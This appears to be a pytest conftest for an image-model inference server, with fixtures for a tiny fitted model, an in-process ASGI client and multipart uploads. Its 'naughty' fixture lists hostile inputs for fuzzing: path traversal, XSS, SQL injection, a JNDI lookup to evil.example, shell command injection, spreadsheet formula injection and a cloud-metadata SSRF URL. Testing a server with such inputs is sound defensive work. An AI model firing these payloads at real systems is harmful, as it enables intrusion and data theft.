"""A tiny fitted model behind the real application, and a client that can say anything a client could."""

import asyncio
import json
import secrets
from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from fit_stores import DECODER, make_store
from PIL import Image

from hilum.backbones.vit import VisionTransformer, ViTConfig
from hilum.backbones.weights import save_backbone
from hilum.commands import fit
from hilum.core.seeding import forked

pytest.importorskip("fastapi", reason="the extra hilum[serve] is not installed")

from hilum.deploy.predictor import Model, load
from hilum.deploy.server.app import create_app
from hilum.deploy.server.decoding import Decoder
from hilum.deploy.server.gate import Gate
from hilum.deploy.server.service import Service
from hilum.deploy.server.settings import Limits, Settings

PAGE = {"host": "localhost:8000", "x-hilum": "page"}
SMALL = replace(
    Limits(), files=4, file_bytes=2**20, study_bytes=2 * 2**20, held_bytes=4 * 2**20, queue=3, body_seconds=0.4,
    decode_seconds=5.0, results=4, wrong_tokens=5,
)  # fmt: skip
"""Limits that a test can reach."""


@dataclass
class Answer:
    """What came back."""

    status: int = 0
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""

    @property
    def json(self) -> Any:
        return json.loads(self.body)

    @property
    def code(self) -> str:
        return self.json["error"]["code"]


def png(pixels: np.ndarray) -> bytes:
    import io

    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, "PNG")
    return buffer.getvalue()


def film(seed: int = 0, height: int = 40, width: int = 32) -> bytes:
    """A PNG of noise with a bright middle."""
    rng = np.random.default_rng(seed)
    pixels = rng.integers(0, 120, (height, width), np.uint8)
    pixels[height // 4 : -height // 4] += np.uint8(100)
    return png(pixels)


def multipart(
    files: Sequence[bytes], views: Sequence[str] = (), names: Sequence[str] = (), boundary: str = ""
) -> tuple[bytes, str]:
    """A body and its content type."""
    boundary = boundary or secrets.token_hex(8)
    parts = []
    for number, content in enumerate(files):
        name = names[number] if names else "x"
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n".encode()
            + content
            + b"\r\n"
        )
    start = f'--{boundary}\r\nContent-Disposition: form-data; name="views"\r\n\r\n'
    parts += [f"{start}{view}\r\n".encode() for view in views]
    return b"".join([*parts, f"--{boundary}--\r\n".encode()]), f"multipart/form-data; boundary={boundary}"


@dataclass
class Server:
    """An application, asked without a network."""

    app: Gate
    service: Service

    async def asked(
        self,
        method: str,
        path: str,
        headers: dict[str, str] | Iterable[tuple[str, str]] = PAGE,
        body: bytes = b"",
        chunks: Iterable[bytes] | AsyncIterator[bytes] | None = None,
        gone_after: float | None = None,
    ) -> Answer:
        """One request. `chunks` come in place of a body and without a length; after `gone_after` seconds, nobody is
        there any more.
        """
        pairs = [*(headers.items() if isinstance(headers, dict) else headers)]
        names = {name.lower() for name, _ in pairs}
        if chunks is not None:
            pairs.append(("transfer-encoding", "chunked"))
        elif (body or method == "POST") and "content-length" not in names and "transfer-encoding" not in names:
            pairs.append(("content-length", str(len(body))))
        # A server for real makes its path of bytes, so that no half of a character can be in it.
        address, _, query = path.encode("utf-8", "replace").decode().partition("?")
        scope = {
            "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
            "path": address, "raw_path": address.encode(), "query_string": query.encode(),
            "root_path": "",
            "headers": [(name.lower().encode("latin-1"), value.encode("latin-1")) for name, value in pairs],
            "client": ("127.0.0.1", 5), "server": ("127.0.0.1", 8000),
        }  # fmt: skip
        source = _source(body, chunks)
        answer, ended = Answer(), asyncio.Event()

        async def receive() -> dict[str, Any]:
            try:
                return await anext(source)
            except StopAsyncIteration:
                if gone_after is None:
                    await ended.wait()
                else:
                    await asyncio.sleep(gone_after)
                return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                answer.status = message["status"]
                answer.headers = {name.decode(): value.decode() for name, value in message["headers"]}
            else:
                answer.body += message.get("body", b"")
                if not message.get("more_body", False):
                    ended.set()

        await self.app(scope, receive, send)
        return answer

    def ask(self, method: str, path: str, *arguments: Any, **options: Any) -> Answer:
        return asyncio.run(self.asked(method, path, *arguments, **options))

    def upload(self, files: Sequence[bytes], views: Sequence[str] = (), **options: Any) -> Answer:
        return asyncio.run(self.uploaded(files, views, **options))

    async def uploaded(
        self, files: Sequence[bytes], views: Sequence[str] = (), names: Sequence[str] = (), headers: Any = PAGE,
        **options: Any,
    ) -> Answer:  # fmt: skip
        body, kind = multipart(files, views, names)
        return await self.asked("POST", "/api/studies", {**headers, "content-type": kind}, body, **options)

    def lives(self) -> bool:
        """Whether it answers, and has nothing left over."""
        health = self.ask("GET", "/healthz")
        return health.status == 200 and health.json["queue"] == 0 and self.service.held.now == 0


async def _source(body: bytes, chunks: Any) -> AsyncIterator[dict[str, Any]]:
    if chunks is None:
        for start in range(0, len(body) or 1, 65536):
            part = body[start : start + 65536]
            yield {"type": "http.request", "body": part, "more_body": start + 65536 < len(body)}
        return
    if hasattr(chunks, "__aiter__"):
        async for chunk in chunks:
            yield {"type": "http.request", "body": chunk, "more_body": True}
    else:
        for chunk in chunks:
            yield {"type": "http.request", "body": chunk, "more_body": True}
    yield {"type": "http.request", "body": b"", "more_body": False}


@pytest.fixture(scope="session")
def model_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`model` (a decoder of 16 px squares, one finding never trained) and the `store` it was fitted on."""
    path = tmp_path_factory.mktemp("served")
    make_store(path / "store")
    with forked(0, "test"):
        backbone = VisionTransformer(ViTConfig(12, 2, 2, patch_size=8, image_size=16, layer_scale=0.5))
    save_backbone(backbone, path / "run", "hilum-grey-1")
    fit.run(replace(DECODER, resolution=16), path / "store", path / "run", path / "model", device="cpu")
    return path


@pytest.fixture(scope="session")
def model(model_folder: Path) -> Model:
    return load(model_folder / "model", "cpu")


@pytest.fixture(scope="session")
def make_server(model: Model) -> Iterator[Callable[..., Server]]:
    """Servers of the tiny model, by limits and settings; ended with the session."""
    made: list[Service] = []

    def make(limits: Limits = SMALL, index: Any = None, of: Any = None, **settings: Any) -> Server:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(Decoder, "start", lambda self: None)  # it starts with the first image; most tests send none
            service = Service(of or model, limits, index)
        made.append(service)
        return Server(create_app(service, Settings(limits=limits, **settings)), service)

    yield make
    for service in made:
        service.close()


@pytest.fixture(scope="session")
def server(make_server: Callable[..., Server]) -> Server:
    """With small limits."""
    return make_server()


@pytest.fixture(scope="session")
def make_film() -> Callable[..., bytes]:
    """`film`, for test files, which cannot import this one."""
    return film


@pytest.fixture(scope="session")
def make_multipart() -> Callable[..., tuple[bytes, str]]:
    """`multipart`."""
    return multipart


@pytest.fixture(scope="session")
def small_limits() -> Limits:
    return SMALL


@pytest.fixture(scope="session")
def naughty() -> list[str]:
    """Strings that break programs which look at them: paths, markup, formats, controls, scripts of every direction."""
    return [
        "../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd",
        "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc", "..%c0%af..%c0%afetc", "~root",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
        "'; DROP TABLE studies; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(touch /tmp/x)", "`id`", "| id",
        "%s%s%s%n", "%x" * 40, "\x00", "a\x00.png", "\x1b[31mred", "\u202egpj.exe", "\ufeff", "\u200b", "NaN", "null",
        "undefined", "true", "-1", "1e309", "0x7fffffff", "CON", "LPT1", "con.png", ".", "..", " ", "", "a" * 300,
        "Ω≈ç√∫µ≤≥÷", "田中さんにあげて下さい", "مرحبا", "ﷺ", "👾🙇💁", "é", "e\u0301", "İ", "ß" * 100, "\ud83d",
        "=cmd|' /C calc'!A0", "@SUM(1+1)", "; rel=prefetch", "http://169.254.169.254/latest/meta-data", "[::1]", "%",
    ]  # fmt: skip
